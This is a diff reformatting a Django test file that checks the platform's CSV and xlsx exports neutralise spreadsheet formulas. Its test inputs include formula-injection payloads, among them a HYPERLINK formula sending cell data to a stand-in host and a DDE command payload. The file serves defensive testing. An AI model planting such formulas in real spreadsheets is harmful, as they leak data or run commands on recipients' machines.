@@ -1,5 +1,6 @@
 """Exports neutralise formulas (OWASP CSV injection): text starting with = + - @, a tab or a carriage
 return is written as text in every xlsx and CSV the platform writes (core/exports.py), on every path."""
+
 import csv
 import io
 import re
@@ -18,11 +19,19 @@ from audit.services import log_access
 from core.exports import FORMULA_TRIGGERS, is_formula_like, safe_cell, safe_row, write_row
 
 ROOT = Path(__file__).resolve().parents[2]
-NASTY = ['=HYPERLINK("http://angriber.example/?d="&A1,"Klik her")', "+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1",
-         "=cmd|' /C calc'!A0"]
+NASTY = [
+    '=HYPERLINK("http://angriber.example/?d="&A1,"Klik her")',
+    "+1",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
+]
 
 
 # The helper itself -------------------------------------------------------------------------------
+
 
 @pytest.mark.parametrize("text", NASTY)
 def test_formula_like_text_gets_a_leading_apostrophe_in_csv(text):
@@ -54,13 +63,15 @@ def test_xlsx_rows_write_text_as_text_and_numbers_as_numbers():
     for cell, text in zip(cells, NASTY):
         # text, exactly as typed, never a formula (openpyxl reads XlsxWriter's escaped CR back as _x000D_)
         assert cell.data_type == "s" and cell.value.replace("_x000D_", "\r") == text
-    assert [c.value for c in cells[len(NASTY):]] == [42, -1.5, None, "Jens"]
+    assert [c.value for c in cells[len(NASTY) :]] == [42, -1.5, None, "Jens"]
     assert cells[len(NASTY)].data_type == "n"
 
 
 def test_every_spreadsheet_writer_goes_through_the_helper():
     """A new xlsx or CSV export anywhere in the project must use core/exports.py."""
-    writer = re.compile(r"csv\.(writer|DictWriter)\(|xlsxwriter\.Workbook\(|openpyxl\.Workbook\(|\bWorkbook\(\)")
+    writer = re.compile(
+        r"csv\.(writer|DictWriter)\(|xlsxwriter\.Workbook\(|openpyxl\.Workbook\(|\bWorkbook\(\)"
+    )
     skip = {".venv", "node_modules", "tests", "e2e", "benchmarks", "migrations"}
     offenders = []
     for path in ROOT.rglob("*.py"):
@@ -88,8 +99,10 @@ def _xlsx_cells(response, sheet=None):
 @pytest.fixture
 def nasty_people(worker_a, person_factory):
     start = timezone.localdate() - timedelta(days=10)
-    return [person_factory(worker_a, first_name=NASTY[0], last_name="+1", initials="@SUM(1)", start=start),
-            person_factory(worker_a, first_name="-2+3", last_name="\t=1+1", start=start)]
+    return [
+        person_factory(worker_a, first_name=NASTY[0], last_name="+1", initials="@SUM(1)", start=start),
+        person_factory(worker_a, first_name="-2+3", last_name="\t=1+1", start=start),
+    ]
 
 
 @pytest.mark.django_db
@@ -111,8 +124,14 @@ def test_the_by_name_list_xlsx_writes_formulas_as_text(login, users_a, nasty_peo
 @pytest.mark.django_db
 def test_the_citizens_access_report_csv_neutralises_formulas(login, users_a, municipality_a, nasty_people):
     person = nasty_people[0]
-    log_access(actor=users_a[Role.LEADER], municipality=municipality_a, action=Action.READ, purpose="=1+1",
-               person_id=person.pk, role="@SUM(1)")
+    log_access(
+        actor=users_a[Role.LEADER],
+        municipality=municipality_a,
+        action=Action.READ,
+        purpose="=1+1",
+        person_id=person.pk,
+        role="@SUM(1)",
+    )
     rows = _csv(login(users_a[Role.LEADER]).get(reverse("audit:person_export", args=[person.pk])))
     cells = [c for r in rows[1:] for c in r]
     assert "'=1+1" in cells and "'@SUM(1)" in cells
@@ -129,14 +148,28 @@ def test_the_fidelity_results_xlsx_writes_formulas_as_text(login, users_a, munic
     leader = leader_actor(users_a, municipality_a)
     unit = make_unit(leader, name=NASTY[0])
     assessment = services.assessment_start(actor=leader, unit=unit, quarter=Quarter(2026, 1))
-    statements = list(Statement.objects.filter(theme__form_version=assessment.form_version).order_by("number"))
+    statements = list(
+        Statement.objects.filter(theme__form_version=assessment.form_version).order_by("number")
+    )
     answers = {s.id: (3, "") for s in statements}
     answers[statements[0].id] = (2, "@SUM(1)")
-    services.assessment_save(actor=leader, assessment=assessment, meeting={"meeting_on": date(2026, 3, 1),
-                             "participants": "Alle"}, answers=answers,
-                             new_actions=[{"statement_id": statements[0].id, "what": "+45 12 34 56 78", "who": "-Leder",
-                                           "due_on": date(2026, 6, 30)}],
-                             follow_ups={}, complete=True, now=timezone.now())
+    services.assessment_save(
+        actor=leader,
+        assessment=assessment,
+        meeting={"meeting_on": date(2026, 3, 1), "participants": "Alle"},
+        answers=answers,
+        new_actions=[
+            {
+                "statement_id": statements[0].id,
+                "what": "+45 12 34 56 78",
+                "who": "-Leder",
+                "due_on": date(2026, 6, 30),
+            }
+        ],
+        follow_ups={},
+        complete=True,
+        now=timezone.now(),
+    )
     url = reverse("fidelity:results_export", args=["xlsx"]) + f"?enhed={unit.pk}&kvartal=2026-K1"
     response = login(users_a[Role.LEADER]).get(url)
     cells = _xlsx_cells(response, "Udsagn") + _xlsx_cells(response, "Handlinger")
